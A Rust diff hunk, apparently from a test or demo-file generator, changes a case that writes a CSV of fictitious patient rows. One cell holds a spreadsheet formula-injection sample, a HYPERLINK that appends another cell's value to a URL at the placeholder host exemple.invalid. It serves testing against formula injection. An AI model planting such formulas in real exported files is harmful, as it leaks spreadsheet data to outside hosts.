@@ -86,7 +86,9 @@ fn demo(files: &mut Files, asked: &[&Requirement]) -> Vec<(String, &'static str)
             (Kind::Texte, 1) => (one("trace.txt", Vec::new()), Some("an empty file")),
             (Kind::Tableau, 1) => (one("extraction.xlsm", office::xlsx("Extraction", &table(id), true)), Some("a workbook with macros")),
             (Kind::Tableau, 5) => {
-                let csv = "Date;Patient;Lien\r\n12/01/2026;TEST-A;=HYPERLINK(\"http://exemple.invalid/?\"&A2;\"ouvrir\")\r\n".to_owned();
+                let mut csv = "Date;Patient fictif;Action\r\n05/01/2026;TEST-A;Consultation\r\n".to_owned();
+                csv +=
+                    "06/01/2026;TEST-B;\"=HYPERLINK(\"\"http://exemple.invalid/?\"\"&B2;\"\"ouvrir\"\")\"\r\n07/01/2026;TEST-C;Envoi\r\n";
                 (one("extraction.csv", csv.into_bytes()), Some("a cell that a spreadsheet program would run as a formula"))
             }
             (Kind::Lien, 2) => {
